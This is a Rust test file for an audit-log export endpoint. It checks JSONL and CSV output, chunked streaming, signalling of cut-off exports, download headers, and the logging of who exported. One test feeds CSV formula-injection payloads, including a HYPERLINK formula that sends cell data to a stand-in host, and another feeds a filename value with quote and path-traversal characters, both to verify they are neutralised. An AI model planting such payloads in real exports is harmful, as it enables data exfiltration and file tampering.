//! The audit log as a file.

use crate::{
    stage::{NOW, Stage, asking, numbers, pages, unescaped},
    support::{
        browser::Browser,
        http::{Answer, Line, Request},
        until,
    },
};
use countersign_store::AuditEntry;
use rusqlite::Connection;
use serde_json::Value;
use std::io::ErrorKind;

const LINES: &str = "/admin/audit/export?format=jsonl";
const SHEET: &str = "/admin/audit/export?format=csv";

fn lines(answer: &Answer) -> Vec<Value> {
    assert!(answer.body.is_empty() || answer.body.ends_with('\n'), "the last line is whole");
    answer.body.lines().map(|line| serde_json::from_str(line).expect("JSON")).collect()
}

fn sheet(answer: &Answer) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(answer.body.as_bytes());
    let text = |row: &csv::StringRecord| row.iter().map(ToOwned::to_owned).collect::<Vec<_>>();
    let names = text(reader.headers().expect("names"));
    (names, reader.records().map(|row| text(&row.expect("a row"))).collect())
}

/// An open connection with the head of an answer to this read from it.
fn opened(stage: &Stage, browser: &Browser, target: &str) -> (Line, Answer) {
    let cookies: Vec<_> = browser.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let request = Request::get(target).field("Cookie", &cookies.join("; "));
    let mut line = Line::open_narrow(stage.server.address).expect("a connection");
    line.send(&request.bytes(&stage.server.public_url)).expect("a request");
    let head = line.head().expect("an answer");
    (line, head)
}

/// The next chunk of a body; the empty one ends it.
fn chunk(line: &mut Line) -> std::io::Result<Vec<u8>> {
    let mut size = String::new();
    while !size.ends_with("\r\n") {
        size.push(char::from(line.take(1)?[0]));
    }
    let size = usize::from_str_radix(size.trim_end(), 16).expect("a size");
    let mut bytes = line.take(size + 2)?;
    bytes.truncate(size);
    Ok(bytes)
}

#[test]
fn a_file_holds_what_all_pages_show() {
    let stage = Stage::new();
    stage.happened((0..1203).map(|at| AuditEntry {
        owner: Some("jane".into()),
        detail: Some(format!("{at}, \"quoted\"")),
        ..AuditEntry::new(NOW.plus(at), if at % 2 == 0 { "even" } else { "odd" })
    }));
    let mut ada = stage.sign_in("ada");
    for (filter, count) in
        [("event=even", 602), ("owner=jane&actor=nobody", 0), ("owner=jane&from=2027-01-15", 1203)]
    {
        let walked = pages(&stage, &mut ada, &format!("/admin/audit?{filter}"), |_| {});
        let shown: Vec<_> = walked.iter().flat_map(numbers).collect();
        assert_eq!(shown.len(), count, "{filter}");

        let answer = ada.get(&stage.server, &format!("{LINES}&{filter}")).expect(200);
        assert_eq!(answer.field("content-type"), Some("application/x-ndjson"));
        let taken = lines(&answer);
        assert_eq!(taken.iter().map(|one| one["id"].as_i64().expect("a number")).collect::<Vec<_>>(), shown);

        let answer = ada.get(&stage.server, &format!("{SHEET}&{filter}")).expect(200);
        assert_eq!(answer.field("content-type"), Some("text/csv; charset=utf-8; header=present"));
        let (names, rows) = sheet(&answer);
        assert_eq!(names.join(" "), "id at event client_id owner record actor address detail");
        assert_eq!(rows.len(), count);
        for (row, line) in rows.iter().zip(&taken) {
            assert_eq!(
                (&*row[0], &*row[2]),
                (&*line["id"].to_string(), line["event"].as_str().expect("text"))
            );
            assert_eq!(line["detail"].as_str(), Some(&*row[8]));
            assert_eq!((&*row[3], &row[1][..14]), ("", "2027-01-15T08:"));
        }
    }
}

#[test]
fn a_file_is_kept_and_not_shown_under_a_name_of_ours() {
    let stage = Stage::new();
    let mut ada = stage.sign_in("ada");
    for (target, ending) in [(LINES, ".jsonl\""), (SHEET, ".csv\"")] {
        let answer = ada.get(&stage.server, &format!("{target}&owner=%22%3b/../x")).expect(200);
        let kept = answer.field("content-disposition").expect("a name");
        assert!(kept.starts_with("attachment; filename=\"audit-2") && kept.ends_with(ending), "{kept}");
        assert!(!kept.contains('/') && !kept.contains(".."), "{kept}");
        assert_eq!(answer.field("x-content-type-options"), Some("nosniff"));
        assert_eq!(answer.field("cache-control"), Some("no-store"));
        assert!(
            answer
                .field("content-security-policy")
                .is_some_and(|policy| policy.contains("default-src 'none'"))
        );
    }
}

#[test]
fn formula_in_a_name_is_text_in_a_spreadsheet() {
    let stage = Stage::new();
    let hostile =
        ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1+1", "-1", "@SUM(1)", "\t=1", "\r=1", "x;=1+1"];
    stage.happened(hostile.map(|owner| AuditEntry {
        owner: Some(owner.into()),
        detail: Some(owner.into()),
        ..AuditEntry::new(NOW, "happened")
    }));
    let mut ada = stage.sign_in("ada");
    let answer = ada.get(&stage.server, &format!("{SHEET}&event=happened")).expect(200);
    let (_, rows) = sheet(&answer);
    assert_eq!(rows.len(), hostile.len());
    for (row, owner) in rows.iter().rev().zip(hostile) {
        for cell in [&row[4], &row[8]] {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
            assert!(!cell.contains(";="), "another country's separator: {cell:?}");
            assert_eq!(cell.replace('\'', ""), owner);
        }
    }
    let taken = lines(&ada.get(&stage.server, &format!("{LINES}&event=happened")).expect(200));
    assert!(
        taken.iter().rev().zip(hostile).all(|(line, owner)| line["owner"] == owner),
        "programs get it as it is"
    );
}

#[test]
fn ten_thousand_events_are_sent_a_part_at_a_time() {
    let stage = Stage::new();
    stage.happened_often("happened", 10_000);
    let ada = stage.sign_in("ada");
    let (mut line, head) = opened(&stage, &ada, &format!("{LINES}&event=happened"));
    assert_eq!((head.status, head.field("transfer-encoding")), (200, Some("chunked")));
    let (mut parts, mut events) = (0, 0);
    loop {
        let bytes = chunk(&mut line).expect("a chunk");
        if bytes.is_empty() {
            break;
        }
        let read = bytes.iter().filter(|byte| **byte == b'\n').count();
        assert!(read <= 500, "{read} in one part");
        (parts, events) = (parts + 1, events + read);
    }
    assert_eq!((events, parts), (10_000, 20));
}

/// More than what stands in the buffers of a connection.
#[test]
fn store_that_fails_in_the_middle_leaves_no_file_that_looks_whole() {
    let stage = Stage::new();
    let long = "x".repeat(8000);
    for _ in 0..10 {
        stage.happened((0..500).map(|at| AuditEntry {
            detail: Some(long.clone()),
            ..AuditEntry::new(NOW.plus(at), "happened")
        }));
    }
    let mut ada = stage.sign_in("ada");
    let database = Connection::open(stage.place.database()).expect("the database");
    for target in [LINES, SHEET] {
        let (mut line, head) = opened(&stage, &ada, target);
        assert_eq!(head.status, 200);
        assert!(!chunk(&mut line).expect("a chunk").is_empty());
        database.execute_batch("ALTER TABLE audit RENAME TO elsewhere").expect("another name");
        let end = loop {
            match chunk(&mut line) {
                Ok(bytes) => assert!(!bytes.is_empty(), "the body ends as if it were whole"),
                Err(error) => break error.kind(),
            }
        };
        assert!([ErrorKind::UnexpectedEof, ErrorKind::ConnectionReset].contains(&end), "{end:?}");

        let refused = ada.send(&stage.server, asking("GET", target)).expect(503);
        assert!(refused.field("content-disposition").is_none(), "{:?}", refused.fields);
        ada.send(&stage.server, asking("GET", "/admin/audit")).expect(503);
        database.execute_batch("ALTER TABLE elsewhere RENAME TO audit").expect("its name");
    }
    let log = stage.server.log();
    assert!(String::from_utf8_lossy(&log).contains("an export of the audit log is cut off"));
    let whole = ada.get(&stage.server, LINES).expect(200);
    assert!(lines(&whole).len() > 5000);
}

#[test]
fn whoever_takes_the_log_away_is_in_it() {
    let stage = Stage::new();
    let mut ada = stage.sign_in("ada");
    ada.send(&stage.server, asking("HEAD", LINES)).expect(200);
    let secret = "s3cr3t-typed-by-mistake";
    for filter in
        ["owner=jane&event=granted&from=2027-01-15".to_owned(), format!("event={secret}&actor={secret}")]
    {
        ada.get(&stage.server, &format!("{SHEET}&{filter}")).expect(200);
    }
    until("both are recorded", || {
        numbers(&ada.get(&stage.server, "/admin/audit?event=audit_exported").expect(200)).len() == 2
    });
    let events = lines(&ada.get(&stage.server, &format!("{LINES}&event=audit_exported")).expect(200));
    assert_eq!(events.len(), 2, "{events:?}");
    assert_eq!(events[1]["detail"], "csv, the event granted, from 2027-01-15");
    assert_eq!(events[0]["detail"], "csv, another event, of one actor");
    assert_eq!((&events[1]["owner"], &events[0]["owner"]), (&Value::from("jane"), &Value::Null));
    assert!(events.iter().all(|one| one["actor"] == "administrator ada"));
    assert!(events.iter().all(|one| one["address"] == "127.0.0.1"), "{events:?}");
}

#[test]
fn nothing_is_sent_where_a_cut_could_not_be_told() {
    let stage = Stage::new();
    let ada = stage.sign_in("ada");
    let cookies: Vec<_> = ada.cookies.iter().map(|(name, value)| format!("{name}={value}")).collect();
    let request = Request::get(LINES).field("Cookie", &cookies.join("; "));
    let old = String::from_utf8(request.bytes(&stage.server.public_url)).expect("text");
    let old = old.replace(" HTTP/1.1\r\n", " HTTP/1.0\r\n");
    let answer = Line::open(stage.server.address).and_then(|mut line| line.exchange(old.as_bytes()));
    let answer = answer.expect("an answer").expect(426);
    assert_eq!(answer.field("upgrade"), Some("HTTP/1.1"), "{:?}", answer.fields);
    assert!(unescaped(&answer.body).contains("HTTP/1.1") && answer.field("content-disposition").is_none());
}
